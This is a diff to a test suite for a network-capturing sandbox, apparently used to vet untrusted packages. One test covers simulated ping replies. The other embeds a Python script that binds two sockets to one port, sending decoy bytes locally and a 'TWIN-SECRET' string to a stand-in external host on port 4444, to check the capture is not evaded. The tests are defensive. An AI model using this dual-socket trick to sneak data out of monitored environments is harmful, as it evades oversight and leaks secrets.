@@ -329,22 +329,77 @@ except Exception: pass"`);
     assert.deepEqual(streams(events), []);
   });
 
-  it('ICMP echo is answered under the address pinged, and counted per destination', async () => {
+  it('ICMP echo is answered as on a LAN, under the address pinged, and counted per destination', async () => {
     const { events, stdout } = await attempt(
-      'ping -n -c 2 -W 1 203.0.113.5; ping -n -c 1 -W 1 192.168.1.1; true',
+      [
+        'ping -n -c 2 -W 1 1.1.1.1',
+        'ping -n -c 1 -W 1 192.168.1.1',
+        // What would not answer on a LAN: documentation space, another host of the LAN, an echo
+        // whose TTL runs out on the way, one with IP options (record route).
+        'ping -n -c 1 -W 1 203.0.113.5',
+        'ping -n -c 1 -W 1 192.168.1.200',
+        'ping -n -c 1 -W 1 -t 2 8.8.4.4',
+        'ping -n -c 1 -W 1 -R 9.9.9.9',
+        'true',
+      ].join('; '),
     );
-    // Both answer, as a router and a host on the internet do, from the address asked.
-    assert.match(stdout, /64 bytes from 203\.0\.113\.5: icmp_seq=1/, stdout);
+    // A host on the internet some hops away and the router next door answer, from the address
+    // asked; never from loopback.
+    assert.match(stdout, /64 bytes from 1\.1\.1\.1: icmp_seq=1 ttl=57 /, stdout);
     assert.match(stdout, /2 packets transmitted, 2 received/, stdout);
-    assert.match(stdout, /64 bytes from 192\.168\.1\.1: icmp_seq=1/, stdout);
-    assert.doesNotMatch(stdout, /127\.0\.0\.1/, stdout);
-    const icmp = events.find((e): e is IcmpEvent => e.kind === 'icmp' && e.ip === '203.0.113.5');
-    assert.ok(icmp, 'icmp recorded');
-    assert.ok(icmp.count >= 1);
-    assert.ok(
-      events.some((e) => e.kind === 'icmp' && e.ip === '192.168.1.1'),
-      'router ping recorded',
+    assert.match(stdout, /64 bytes from 192\.168\.1\.1: icmp_seq=1 ttl=64 /, stdout);
+    assert.doesNotMatch(
+      stdout,
+      /127\.0\.0\.1|from (203\.0\.113\.5|192\.168\.1\.200|8\.8\.4\.4|9\.9\.9\.9)/,
+      stdout,
     );
+    assert.equal(stdout.match(/1 packets transmitted, 0 received/g)?.length, 4, stdout);
+    // Answered or not, every echo is reported with the address it was sent to.
+    for (const ip of [
+      '1.1.1.1',
+      '192.168.1.1',
+      '203.0.113.5',
+      '192.168.1.200',
+      '8.8.4.4',
+      '9.9.9.9',
+    ])
+      assert.ok(
+        events.some((e): e is IcmpEvent => e.kind === 'icmp' && e.ip === ip && e.count >= 1),
+        `icmp to ${ip} recorded: ${JSON.stringify(events.filter((e) => e.kind === 'icmp'))}`,
+      );
+  });
+
+  it("two sockets of one port, one straight to the capture's port, keep their own destinations", async () => {
+    // SO_REUSEADDR lets a package bind two sockets to one port: one connects to the capture's port
+    // on the sandbox's own address, the other to its real destination, which is redirected to
+    // that same port. Each connection must be recorded with its own destination and bytes.
+    const script = [
+      'import socket',
+      'def sock():',
+      '    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); return s',
+      'a = sock(); a.bind(("192.168.1.23", 0)); port = a.getsockname()[1]',
+      'b = sock(); b.bind(("192.168.1.23", port))',
+      'a.connect(("192.168.1.23", 15001)); a.sendall(b"DECOY-BYTES\\n")',
+      'b.connect(("203.0.113.77", 4444)); b.sendall(b"TWIN-SECRET\\n")',
+      'import time; time.sleep(0.5); a.close(); b.close()',
+    ].join('\n');
+    const { events } = await attempt(`python3 -c '${script}'; sleep 2`);
+    const twin = streams(events).find((e) => e.ip === '203.0.113.77');
+    assert.ok(twin, `the redirected connection: ${JSON.stringify(streams(events))}`);
+    assert.equal(twin.port, 4444);
+    assert.ok(
+      Buffer.from(twin.firstBytesHex ?? '', 'hex')
+        .toString()
+        .startsWith('TWIN-SECRET'),
+      JSON.stringify(twin),
+    );
+    for (const e of streams(events).filter((x) => x.ip === '192.168.1.23'))
+      assert.ok(
+        !Buffer.from(e.firstBytesHex ?? '', 'hex')
+          .toString()
+          .includes('TWIN-SECRET'),
+        `the secret is charged to the sandbox's own address: ${JSON.stringify(e)}`,
+      );
   });
 
   it('the Docker bridge, the host addresses and the metadata service are recorded, never reached', async () => {
